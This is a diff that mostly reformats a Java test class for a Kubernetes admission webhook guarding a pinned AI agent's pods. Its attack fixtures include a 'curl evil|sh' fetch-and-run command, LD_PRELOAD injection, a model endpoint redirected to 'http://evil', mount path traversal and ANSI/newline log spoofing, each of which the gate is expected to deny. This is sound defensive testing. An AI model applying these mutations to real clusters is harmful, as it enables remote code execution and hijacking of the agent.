@@ -64,7 +64,8 @@ class AdmissionTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"pod-create", "pod-create-dry-run", "deployment-create", "cronjob-create"})
+  @ValueSource(
+      strings = {"pod-create", "pod-create-dry-run", "deployment-create", "cronjob-create"})
   void theCertifiedAgentIsLetInWhateverMakesItsPod(String sample) throws IOException {
     JsonNode response = ask(Reviews.sample(sample), "required/general");
     assertThat(response.path("allowed").booleanValue()).as(response.toString()).isTrue();
@@ -77,14 +78,19 @@ class AdmissionTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"pod-create", "pod-create-dry-run", "deployment-create", "cronjob-create"})
+  @ValueSource(
+      strings = {"pod-create", "pod-create-dry-run", "deployment-create", "cronjob-create"})
   void aWithdrawnOneIsNotAndThePersonAtKubectlReadsWhy(String sample) throws IOException {
     frozen.source = FrozenGate.log("withdrawn");
     frozen.look();
     JsonNode response = ask(Reviews.sample(sample), "required/general");
     assertThat(response.path("allowed").booleanValue()).isFalse();
     assertThat(response.at("/status/message").asString())
-        .contains("the agent clerk: DENY by the policy ci", "not-in-order: ", "Why: ", "What to do: See the register");
+        .contains(
+            "the agent clerk: DENY by the policy ci",
+            "not-in-order: ",
+            "Why: ",
+            "What to do: See the register");
     assertThat(response.at("/auditAnnotations/clauses").asString()).contains("not-in-order");
   }
 
@@ -92,8 +98,12 @@ class AdmissionTest {
   void whatGoesMayGoAndWhatStaysAsItWasIsNotAskedAbout() throws IOException {
     frozen.source = FrozenGate.log("withdrawn");
     frozen.look();
-    assertThat(ask(Reviews.sample("pod-delete"), "required/general").path("allowed").booleanValue()).isTrue();
-    assertThat(ask(Reviews.sample("deployment-scale"), "required/general").path("allowed").booleanValue())
+    assertThat(ask(Reviews.sample("pod-delete"), "required/general").path("allowed").booleanValue())
+        .isTrue();
+    assertThat(
+            ask(Reviews.sample("deployment-scale"), "required/general")
+                .path("allowed")
+                .booleanValue())
         .isTrue();
   }
 
@@ -109,44 +119,192 @@ class AdmissionTest {
   void aDebuggersContainerIsNoPartOfTheAgent() throws IOException {
     JsonNode response = ask(Reviews.sample("pod-debug"), "required/general");
     assertThat(response.path("allowed").booleanValue()).isFalse();
-    assertThat(response.at("/status/message").asString()).contains("debugger-8xzrl", "is not pinned");
+    assertThat(response.at("/status/message").asString())
+        .contains("debugger-8xzrl", "is not pinned");
   }
 
   static Stream<Arguments> attacks() {
     return Stream.of(
-        attack("no pinning", pod -> Reviews.container(pod).put("image", "registry.example/clerk/agent:1.0"), "is not pinned"),
+        attack(
+            "no pinning",
+            pod -> Reviews.container(pod).put("image", "registry.example/clerk/agent:1.0"),
+            "is not pinned"),
         attack("no image", pod -> Reviews.container(pod).remove("image"), "is not pinned"),
-        attack("other algorithm", pod -> Reviews.container(pod).put("image", "registry.example/clerk/agent@sha512:" + "a1".repeat(64)), "is not pinned"),
-        attack("two digests", pod -> Reviews.container(pod).put("image", AGENT + "@sha256:" + "c3".repeat(32)), "is not pinned"),
-        attack("upper case", pod -> Reviews.container(pod).put("image", AGENT.replace("a1", "A1")), "is not pinned"),
-        attack("another command", pod -> Reviews.array(Reviews.container(pod), "command").add("sh").add("-c").add("curl evil|sh"), "its command is not the one in the manifest"),
-        attack("another argument", pod -> Reviews.array(Reviews.container(pod), "args").add("--no-approvals"), "its args is not the one"),
-        attack("no arguments", pod -> Reviews.container(pod).remove("args"), "the manifest demands its args"),
-        attack("a library before all others", pod -> Reviews.array(Reviews.container(pod), "env").addObject().put("name", "LD_PRELOAD").put("value", "/x.so"), "the variable \"LD_PRELOAD\" is not in the manifest"),
-        attack("another model's address", pod -> Reviews.array(Reviews.container(pod), "env").addObject().put("name", "OPENAI_BASE_URL").put("value", "http://evil"), "OPENAI_BASE_URL"),
-        attack("variables from elsewhere", pod -> Reviews.array(Reviews.container(pod), "envFrom").addObject().putObject("configMapRef").put("name", "x"), "envFrom is not allowed"),
-        attack("a file over the program", pod -> Reviews.array(Reviews.container(pod), "volumeMounts").addObject().put("name", "state").put("mountPath", "/app"), "the mount at \"/app\" is not in the manifest"),
-        attack("a file over the program, round about", pod -> Reviews.array(Reviews.container(pod), "volumeMounts").addObject().put("name", "state").put("mountPath", "/var/lib/clerk/../../../app"), "is not in the manifest"),
-        attack("a device", pod -> Reviews.array(Reviews.container(pod), "volumeDevices").addObject().put("name", "state").put("devicePath", "/dev/x"), "the device at"),
-        attack("something after the start", pod -> Reviews.container(pod).putObject("lifecycle").putObject("postStart").putObject("exec").putArray("command").add("sh"), "lifecycle is not allowed"),
-        attack("a probe that runs something", pod -> ((ObjectNode) Reviews.container(pod).get("livenessProbe")).putObject("exec").putArray("command").add("sh"), "livenessProbe.exec is not allowed"),
-        attack("another folder", pod -> Reviews.container(pod).put("workingDir", "/tmp"), "workingDir is not allowed"),
-        attack("what nobody knows yet", pod -> Reviews.container(pod).put("entrypointOverride", "x"), "entrypointOverride is not allowed"),
-        attack("another container", pod -> Reviews.array(pod.get("spec"), "containers").addObject().put("name", "helper").put("image", "busybox@sha256:" + "d4".repeat(32)), "does not name its image"),
-        attack("another first container", pod -> Reviews.array(pod.get("spec"), "initContainers").addObject().put("name", "first").put("image", "busybox"), "is not pinned"),
-        attack("a kind of container that nobody knows", pod -> Reviews.array(pod.get("spec"), "sidecarContainers").addObject().put("image", AGENT), "sidecarContainers is not allowed"),
-        attack("another machine under the model's name", pod -> Reviews.array(pod.get("spec"), "hostAliases").addObject().put("ip", "192.0.2.1"), "hostAliases is not allowed"),
-        attack("other name servers", pod -> ((ObjectNode) pod.get("spec")).putObject("dnsConfig").putArray("nameservers").add("192.0.2.1"), "dnsConfig is not allowed"),
+        attack(
+            "other algorithm",
+            pod ->
+                Reviews.container(pod)
+                    .put("image", "registry.example/clerk/agent@sha512:" + "a1".repeat(64)),
+            "is not pinned"),
+        attack(
+            "two digests",
+            pod -> Reviews.container(pod).put("image", AGENT + "@sha256:" + "c3".repeat(32)),
+            "is not pinned"),
+        attack(
+            "upper case",
+            pod -> Reviews.container(pod).put("image", AGENT.replace("a1", "A1")),
+            "is not pinned"),
+        attack(
+            "another command",
+            pod ->
+                Reviews.array(Reviews.container(pod), "command")
+                    .add("sh")
+                    .add("-c")
+                    .add("curl evil|sh"),
+            "its command is not the one in the manifest"),
+        attack(
+            "another argument",
+            pod -> Reviews.array(Reviews.container(pod), "args").add("--no-approvals"),
+            "its args is not the one"),
+        attack(
+            "no arguments",
+            pod -> Reviews.container(pod).remove("args"),
+            "the manifest demands its args"),
+        attack(
+            "a library before all others",
+            pod ->
+                Reviews.array(Reviews.container(pod), "env")
+                    .addObject()
+                    .put("name", "LD_PRELOAD")
+                    .put("value", "/x.so"),
+            "the variable \"LD_PRELOAD\" is not in the manifest"),
+        attack(
+            "another model's address",
+            pod ->
+                Reviews.array(Reviews.container(pod), "env")
+                    .addObject()
+                    .put("name", "OPENAI_BASE_URL")
+                    .put("value", "http://evil"),
+            "OPENAI_BASE_URL"),
+        attack(
+            "variables from elsewhere",
+            pod ->
+                Reviews.array(Reviews.container(pod), "envFrom")
+                    .addObject()
+                    .putObject("configMapRef")
+                    .put("name", "x"),
+            "envFrom is not allowed"),
+        attack(
+            "a file over the program",
+            pod ->
+                Reviews.array(Reviews.container(pod), "volumeMounts")
+                    .addObject()
+                    .put("name", "state")
+                    .put("mountPath", "/app"),
+            "the mount at \"/app\" is not in the manifest"),
+        attack(
+            "a file over the program, round about",
+            pod ->
+                Reviews.array(Reviews.container(pod), "volumeMounts")
+                    .addObject()
+                    .put("name", "state")
+                    .put("mountPath", "/var/lib/clerk/../../../app"),
+            "is not in the manifest"),
+        attack(
+            "a device",
+            pod ->
+                Reviews.array(Reviews.container(pod), "volumeDevices")
+                    .addObject()
+                    .put("name", "state")
+                    .put("devicePath", "/dev/x"),
+            "the device at"),
+        attack(
+            "something after the start",
+            pod ->
+                Reviews.container(pod)
+                    .putObject("lifecycle")
+                    .putObject("postStart")
+                    .putObject("exec")
+                    .putArray("command")
+                    .add("sh"),
+            "lifecycle is not allowed"),
+        attack(
+            "a probe that runs something",
+            pod ->
+                ((ObjectNode) Reviews.container(pod).get("livenessProbe"))
+                    .putObject("exec")
+                    .putArray("command")
+                    .add("sh"),
+            "livenessProbe.exec is not allowed"),
+        attack(
+            "another folder",
+            pod -> Reviews.container(pod).put("workingDir", "/tmp"),
+            "workingDir is not allowed"),
+        attack(
+            "what nobody knows yet",
+            pod -> Reviews.container(pod).put("entrypointOverride", "x"),
+            "entrypointOverride is not allowed"),
+        attack(
+            "another container",
+            pod ->
+                Reviews.array(pod.get("spec"), "containers")
+                    .addObject()
+                    .put("name", "helper")
+                    .put("image", "busybox@sha256:" + "d4".repeat(32)),
+            "does not name its image"),
+        attack(
+            "another first container",
+            pod ->
+                Reviews.array(pod.get("spec"), "initContainers")
+                    .addObject()
+                    .put("name", "first")
+                    .put("image", "busybox"),
+            "is not pinned"),
+        attack(
+            "a kind of container that nobody knows",
+            pod ->
+                Reviews.array(pod.get("spec"), "sidecarContainers").addObject().put("image", AGENT),
+            "sidecarContainers is not allowed"),
+        attack(
+            "another machine under the model's name",
+            pod -> Reviews.array(pod.get("spec"), "hostAliases").addObject().put("ip", "192.0.2.1"),
+            "hostAliases is not allowed"),
+        attack(
+            "other name servers",
+            pod ->
+                ((ObjectNode) pod.get("spec"))
+                    .putObject("dnsConfig")
+                    .putArray("nameservers")
+                    .add("192.0.2.1"),
+            "dnsConfig is not allowed"),
         attack("no specification", pod -> pod.remove("spec"), "/spec: is to be an object"),
-        attack("no annotation", pod -> Reviews.annotations(pod).remove("assize.dev/agent"), "it does not say which agent it is"),
-        attack("no annotations at all", pod -> ((ObjectNode) pod.get("metadata")).remove("annotations"), "it does not say which agent it is"),
-        attack("another agent's name", pod -> Reviews.annotations(pod).put("assize.dev/agent", "clerk-2"), "clerk-2 1.0.0 does not name its image"),
-        attack("a stranger's name", pod -> Reviews.annotations(pod).put("assize.dev/agent", "../clerk"), "the gate keeps no agent of the name"),
-        attack("a misspelt annotation", pod -> Reviews.annotations(pod).put("assize.dev/teir", "general"), "there is no annotation assize.dev/teir"),
-        attack("a misspelt annotation of another case", pod -> Reviews.annotations(pod).put("Assize.dev/tier", "general"), "is written wrongly"),
-        attack("no such tier", pod -> Reviews.annotations(pod).put("assize.dev/tier", "none"), "context.tier is one of"),
-        attack("a line of one's own in the message", pod -> Reviews.annotations(pod).put("assize.dev/tier", "x\n\u001b[32mAssize lets it in"), "x??[32mAssize lets it in"),
-        attack("a line of one's own in a container's name", pod -> Reviews.container(pod).put("name", "x\nAllowed").put("image", "y"), "\"x?Allowed\""));
+        attack(
+            "no annotation",
+            pod -> Reviews.annotations(pod).remove("assize.dev/agent"),
+            "it does not say which agent it is"),
+        attack(
+            "no annotations at all",
+            pod -> ((ObjectNode) pod.get("metadata")).remove("annotations"),
+            "it does not say which agent it is"),
+        attack(
+            "another agent's name",
+            pod -> Reviews.annotations(pod).put("assize.dev/agent", "clerk-2"),
+            "clerk-2 1.0.0 does not name its image"),
+        attack(
+            "a stranger's name",
+            pod -> Reviews.annotations(pod).put("assize.dev/agent", "../clerk"),
+            "the gate keeps no agent of the name"),
+        attack(
+            "a misspelt annotation",
+            pod -> Reviews.annotations(pod).put("assize.dev/teir", "general"),
+            "there is no annotation assize.dev/teir"),
+        attack(
+            "a misspelt annotation of another case",
+            pod -> Reviews.annotations(pod).put("Assize.dev/tier", "general"),
+            "is written wrongly"),
+        attack(
+            "no such tier",
+            pod -> Reviews.annotations(pod).put("assize.dev/tier", "none"),
+            "context.tier is one of"),
+        attack(
+            "a line of one's own in the message",
+            pod ->
+                Reviews.annotations(pod).put("assize.dev/tier", "x\n\u001b[32mAssize lets it in"),
+            "x??[32mAssize lets it in"),
+        attack(
+            "a line of one's own in a container's name",
+            pod -> Reviews.container(pod).put("name", "x\nAllowed").put("image", "y"),
+            "\"x?Allowed\""));
   }
 
   private static Arguments attack(String name, Consumer<ObjectNode> deed, String message) {
@@ -155,8 +313,8 @@ class AdmissionTest {
 
   @ParameterizedTest(name = "{0}")
   @MethodSource("attacks")
-  void whoeverWritesAPodCannotMakeAnotherAgentOfIt(String name, Consumer<ObjectNode> deed, String message)
-      throws IOException {
+  void whoeverWritesAPodCannotMakeAnotherAgentOfIt(
+      String name, Consumer<ObjectNode> deed, String message) throws IOException {
     JsonNode response = ask(Reviews.pod(deed), "required/general");
     assertThat(response.path("allowed").booleanValue()).isFalse();
     assertThat(response.at("/status/message").asString()).contains(message);
@@ -166,18 +324,20 @@ class AdmissionTest {
   @Test
   void aPodWithoutContainersIsNoAgent() throws IOException {
     JsonNode review =
-        Reviews.pod(
-            pod -> {
-              ((ObjectNode) pod.get("spec")).remove("containers");
-              ((ObjectNode) pod.get("spec")).remove("initContainers");
-            });
+        Reviews.pod(pod -> {
+          ((ObjectNode) pod.get("spec")).remove("containers");
+          ((ObjectNode) pod.get("spec")).remove("initContainers");
+        });
     assertThat(ask(review, "required/general").at("/status/message").asString())
         .contains("the pod has no container");
   }
 
   @Test
   void theSameImageFromAMirrorOrWithATagIsTheSame() throws IOException {
-    for (String image : List.of(AGENT.replace("registry.example", "mirror.internal:5000/x"), AGENT.replace("@", ":9.9@"))) {
+    for (String image :
+        List.of(
+            AGENT.replace("registry.example", "mirror.internal:5000/x"),
+            AGENT.replace("@", ":9.9@"))) {
       JsonNode review = Reviews.pod(pod -> Reviews.container(pod).put("image", image));
       assertThat(ask(review, "required/general").path("allowed").booleanValue()).as(image).isTrue();
     }
@@ -187,12 +347,20 @@ class AdmissionTest {
   void aPodsAuthorCannotLowerWhatItsNamespaceOrClusterDemands() throws IOException {
     JsonNode modest = Reviews.sample("pod-create"); // says general
     assertThat(ask(modest, "required/none").path("allowed").booleanValue()).isTrue();
-    for (String path : List.of("required/sensitive", "required/critical", "annotated/sensitive", "required/sensitive/acts")) {
+    for (String path :
+        List.of(
+            "required/sensitive",
+            "required/critical",
+            "annotated/sensitive",
+            "required/sensitive/acts")) {
       JsonNode response = ask(modest, path);
       assertThat(response.path("allowed").booleanValue()).as(path).isFalse();
       assertThat(response.at("/status/message").asString()).contains("tier-too-low");
     }
-    assertThat(ask(modest, "required/none", Map.of("context.tier", "sensitive")).path("allowed").booleanValue())
+    assertThat(
+            ask(modest, "required/none", Map.of("context.tier", "sensitive"))
+                .path("allowed")
+                .booleanValue())
         .isFalse();
     JsonNode strict =
         Reviews.pod(pod -> Reviews.annotations(pod).put("assize.dev/tier", "sensitive"));
@@ -207,8 +375,22 @@ class AdmissionTest {
   @Test
   void onlyTheStricterOfTwoStatementsCounts() {
     Demand demand =
-        Demand.ofPath("required/sensitive/asks").orElseThrow().and(Map.of("context.purpose", "deployment", "context.publicBody", true));
-    assertThat(demand.with(Map.of("agent", "clerk", "tier", "general", "autonomy", "acts", "purpose", "personal", "public-body", "false")))
+        Demand.ofPath("required/sensitive/asks")
+            .orElseThrow()
+            .and(Map.of("context.purpose", "deployment", "context.publicBody", true));
+    assertThat(
+            demand.with(
+                Map.of(
+                    "agent",
+                    "clerk",
+                    "tier",
+                    "general",
+                    "autonomy",
+                    "acts",
+                    "purpose",
+                    "personal",
+                    "public-body",
+                    "false")))
         .containsEntry("context.tier", "sensitive")
         .containsEntry("context.autonomy", "acts")
         .containsEntry("context.purpose", "deployment")
@@ -279,14 +461,16 @@ class AdmissionTest {
     frozen.look();
     JsonNode response = ask(Reviews.sample("pod-create"), "required/general");
     assertThat(response.path("allowed").booleanValue()).isFalse();
-    assertThat(response.at("/status/message").asString()).contains("UNKNOWN by the policy ci", "its evidence is too old");
+    assertThat(response.at("/status/message").asString())
+        .contains("UNKNOWN by the policy ci", "its evidence is too old");
   }
 
   @Test
   void otherKindsAndOperationsAreNotLetIn() throws IOException {
     ObjectNode kind = Reviews.sample("pod-create");
     ((ObjectNode) kind.at("/request/kind")).put("kind", "VirtualMachine");
-    assertThat(ask(kind, "required/general").at("/status/message").asString()).contains("does not know where its pods are");
+    assertThat(ask(kind, "required/general").at("/status/message").asString())
+        .contains("does not know where its pods are");
     ObjectNode connect = Reviews.sample("pod-create");
     ((ObjectNode) connect.get("request")).put("operation", "CONNECT");
     assertThat(ask(connect, "required/general").path("allowed").booleanValue()).isFalse();
